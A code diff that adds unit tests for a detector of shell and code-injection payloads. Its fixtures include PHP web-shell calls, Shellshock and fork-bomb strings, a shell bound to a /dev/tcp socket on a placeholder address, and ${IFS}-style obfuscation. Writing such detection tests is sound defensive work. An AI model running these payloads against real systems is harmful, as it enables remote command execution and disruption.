@@ -1,0 +1,82 @@
+import { expect, test } from 'vitest';
+import { scriptCallAt } from '../../../src/attacks/shell/script-calls.ts';
+import { tellAt } from '../../../src/attacks/shell/tells.ts';
+
+function callIn(text: string): number {
+  return scriptCallAt(text, text.indexOf('('))?.confidence ?? 0;
+}
+
+test.each([
+  "system('id')",
+  '<?php passthru("ls -la");',
+  'exec($_GET["c"])',
+  "eval('whoami')",
+  'eval(base64_decode("cGhwaW5mbygp"))',
+  "os.popen('id')",
+  "subprocess.call(['ls'])",
+  "require('child_process').exec('id')",
+  '__import__("os")',
+  'forName("java.lang.Runtime")',
+  'phpinfo()',
+  "array_map('system', x)",
+])('%s runs a command or code', (text) => {
+  expect(callIn(text)).toBeGreaterThanOrEqual(0.6);
+});
+
+test.each([
+  'system(x)',
+  'find("id")',
+  "pattern.exec('date')",
+  "use system('ls') here",
+  'eval(x)',
+  "require('fs')",
+  'print("id")',
+  'phpinfo(page)',
+  '(id)',
+])('%s does not', (text) => {
+  expect(callIn(text)).toBe(0);
+});
+
+test('inside a template a class that starts programs says less', () => {
+  expect(callIn('Runtime.getRuntime()')).toBeGreaterThan(callIn('{{ Runtime.getRuntime() }}'));
+});
+
+function tellIn(text: string): string | null {
+  for (let i = 0; i < text.length; i++) {
+    const tell = tellAt(text.toLowerCase(), i);
+    if (tell !== null) return tell.pattern;
+  }
+  return null;
+}
+
+test.each([
+  ['() { :;}; x', 'function definition in a variable'],
+  ["env x='() { y;}; id'", 'function definition in a variable'],
+  [':(){ :|:& };:', 'function definition in a variable'],
+  ['sh <>/dev/tcp/203.0.113.9/1', 'connection of a shell to a socket'],
+  [`a\${IFS}b`, 'field separator as a blank'],
+  [`\${PATH:0:1}`, 'slice of a shell variable'],
+  ['%COMSPEC:~0,3%', 'slice of a Windows variable'],
+  ['a=l;b=s;$a$b', 'command read from variables'],
+  ['for /f %i in (x)', 'loop of cmd.exe'],
+  ['<?= `id` ?>', 'opening tag of PHP'],
+  [`{\${@phpinfo()}}`, 'expression in a PHP string'],
+  ['$_GET[0]($_GET[1])', 'call of what the request holds'],
+  ['x$((41+1))', 'arithmetic expansion'],
+])('%s is told by a %s', (text, pattern) => {
+  expect(tellIn(text)).toBe(pattern);
+});
+
+test.each([
+  'function () { return; }',
+  '() => {}',
+  'MouseEvent=function(){};test=1',
+  `\${name} and $x$`,
+  '100% of %d in all',
+  '<?xml version="1.0"?>',
+  `\`\${a}-\${b}\``,
+  '#{id}',
+  '$5; $6',
+])('%s tells nothing', (text) => {
+  expect(tellIn(text)).toBeNull();
+});
